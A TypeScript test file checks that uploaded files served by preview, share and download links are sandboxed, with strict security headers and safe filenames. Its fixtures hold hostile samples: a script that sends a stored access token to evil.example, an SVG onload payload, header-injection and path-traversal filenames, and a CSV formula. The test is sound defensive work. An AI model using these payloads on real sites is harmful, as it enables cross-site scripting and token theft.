import { api } from '@stagi/contract/api.ts';
import { parse } from 'content-disposition';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../testing/app.ts';
import { aStorage } from '../testing/factories.ts';
import type { Person } from '../testing/person.ts';
import { putObjects, visitContent } from './testing/visitContent.ts';

const SCRIPT = '<script>document.title = "ran"; fetch("https://evil.example/" + localStorage.accessToken)</script>';
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}<foreignObject>${HTML}</foreignObject></svg>`;
const XML = `<?xml version="1.0"?><?xml-stylesheet href="x.xsl" type="text/xsl"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`;
const TEXT = 'text/plain; charset=utf-8';
const BYTES = 'application/octet-stream';

/** Name, stored type, content, type that is answered. */
const HOSTILE: [string, string | undefined, string, string][] = [
  ['page.html', 'text/html', HTML, TEXT],
  ['page-upper.html', 'TEXT/HTML; Charset=UTF-8', HTML, 'text/plain; charset=UTF-8'],
  ['page.xhtml', 'application/xhtml+xml', XML, TEXT],
  ['page.png', 'text/html', HTML, TEXT],
  ['named.png', 'image/png', HTML, 'image/png'],
  ['no-type.html', undefined, HTML, BYTES],
  ['bytes.html', 'application/octet-stream', HTML, BYTES],
  ['unknown.html', 'x-unknown/x-unknown', HTML, BYTES],
  ['no-slash.html', 'html', HTML, BYTES],
  ['two-types.png', 'image/png, text/html', HTML, BYTES],
  [
    'boundary.txt',
    'multipart/x-mixed-replace; boundary=b',
    `--b\r\nContent-Type: text/html\r\n\r\n${HTML}\r\n--b--`,
    TEXT,
  ],
  ['picture.svg', 'image/svg+xml', SVG, 'image/svg+xml'],
  ['picture-utf7.svg', 'image/svg+xml; charset=utf-7', SVG, 'image/svg+xml'],
  ['feed.xml', 'text/xml', XML, TEXT],
  ['feed.rss', 'application/rss+xml', XML, TEXT],
  ['drawing.xml', 'image/x+xml', XML, TEXT],
  ['sheet.xsl', 'text/xsl', XML, TEXT],
  ['code.js', 'text/javascript', 'alert(1)', TEXT],
  ['code.mjs', 'application/javascript', 'alert(1)', TEXT],
  ['code.json', 'application/json', `{"a":"${SCRIPT.replaceAll('"', "'")}"}`, 'application/json'],
  ['worker.wasm', 'application/wasm', '\0asm', BYTES],
  ['flash.swf', 'application/x-shockwave-flash', 'FWS', BYTES],
  ['addon.xpi', 'application/x-xpinstall', 'PK', BYTES],
  ['applet.html', 'text/plain', HTML, TEXT],
  ['../../up.html', 'text/html', HTML, TEXT],
  ['"quoted"; filename="evil.exe".txt', 'text/plain', HTML, TEXT],
  ['line\r\nSet-Cookie: a=b.txt', 'text/plain', HTML, TEXT],
  ['ünï/côdé <b>.csv', 'text/csv', '=cmd()', 'text/csv; charset=utf-8'],
];

describe('files that would run in an origin with power', () => {
  let app: TestApp;
  let owner: Person;
  let id: number;
  beforeAll(async () => {
    app = await startTestApp();
    owner = await app.signUp('Ada');
    id = await aStorage(app.ctx, owner);
    await putObjects(
      app,
      owner,
      id,
      HOSTILE.map(([key, type, body]) => ({
        key,
        ...(type !== undefined && { type }),
        body,
        more: { ContentDisposition: 'inline; filename="harmless.txt"', CacheControl: 'public, max-age=99999' },
      })),
    );
  });
  afterAll(() => app?.close());

  it.each(['preview', 'share', 'download'] as const)('are sandboxed in a %s', async (kind) => {
    let n = 0;
    for (const [key, , body, type] of HOSTILE) {
      const { link } =
        kind === 'preview'
          ? await owner.client(api.sharing.previewLink, { id, key })
          : (await owner.client(api.sharing.createShareLink, { id, key })).entity;
      const answer = await visitContent(app, kind === 'download' ? `${link}?download` : link);
      expect([key, answer.status, answer.headers['content-type']]).toEqual([key, 200, type]);
      expect(answer.body.toString()).toBe(body);
      const isImage = /^image\//.test(type);
      expect(answer.headers).toMatchObject({
        'content-security-policy': `sandbox; default-src 'none'; img-src 'self' data:; media-src 'self'; style-src 'unsafe-inline'; base-uri 'none'; frame-ancestors ${app.ctx.config.appOrigin}`,
        'x-content-type-options': 'nosniff',
        'referrer-policy': 'no-referrer',
        'cache-control': 'private, no-store',
        'cross-origin-resource-policy': kind === 'preview' && isImage ? 'cross-origin' : 'same-origin',
      });
      expect(answer.headers['content-disposition']).toMatch(kind === 'download' ? /^attachment; / : /^inline; /);
      expect(answer.headers['content-disposition']).not.toContain('harmless');
      expectNothingOfTheApp(answer.headers);
      n += 1;
    }
    console.log(`hostile files as ${kind}: n = ${n}, 0 with power`);
  });

  it('get a name for downloads that is the last part of the key', async () => {
    for (const [key, name] of [
      ['"quoted"; filename="evil.exe".txt', '"quoted"; filename="evil.exe".txt'],
      ['ünï/côdé <b>.csv', 'côdé <b>.csv'],
      ['../../up.html', 'up.html'],
    ] as const) {
      const { link } = (await owner.client(api.sharing.createShareLink, { id, key })).entity;
      expect(decodeURIComponent(link.slice(link.lastIndexOf('/') + 1))).toBe(name);
      const { headers } = await visitContent(app, `${link}?download`);
      expect(parse(headers['content-disposition'] ?? '').parameters.filename).toBe(name);
    }
  });

  it('are shown at no address of the app, and no address of the app is at the content host', async () => {
    const { link } = await owner.client(api.sharing.previewLink, { id, key: 'page.html' });
    const path = new URL(link).pathname;
    const elsewhere = await fetch(app.url + path);
    expect(await elsewhere.text()).not.toContain(SCRIPT);
    expect(elsewhere.headers.get('content-security-policy')).not.toContain('sandbox');

    const { contentOrigin } = app.ctx.config;
    const places: [string, string][] = [
      ['GET', '/'],
      ['GET', '/sign-in'],
      ['GET', '/openapi.json'],
      ['GET', '/healthz'],
      ['GET', '/readyz'],
      ['GET', '/favicon.ico'],
      ['GET', '/dev/mail'],
      ['POST', '/frontend-api/user/profile'],
      ['OPTIONS', '/frontend-api/user/profile'],
      ['POST', '/daemon-api/enrol'],
      ['GET', '/frontend-api/events'],
      ['GET', `${path}/..`],
      ['POST', path],
      ['PUT', path],
      ['DELETE', path],
      ['OPTIONS', path],
    ];
    const authorization = `Bearer ${owner.tokens().accessToken}`;
    for (const [method, at] of places) {
      const answer = await visitContent(app, contentOrigin + at, {
        method,
        headers: { authorization, 'x-client-id': String(owner.workspaceId), origin: app.ctx.config.appOrigin },
      });
      expect([method, at, answer.status]).toEqual([method, at, method === 'GET' ? 404 : 405]);
      expect(answer.headers['content-type']).toBe(TEXT);
      expect(answer.headers['content-security-policy']).toMatch(/^sandbox; /);
      expectNothingOfTheApp(answer.headers);
    }
  });
});

/** No cookie, no other site may read it, nothing of what S3 or the object's writer said. */
function expectNothingOfTheApp(headers: object): void {
  const names = Object.keys(headers);
  expect(
    names.filter((name) => /^(set-cookie|access-control-.*|x-amz-.*|www-authenticate|server)$/.test(name)),
  ).toEqual([]);
}
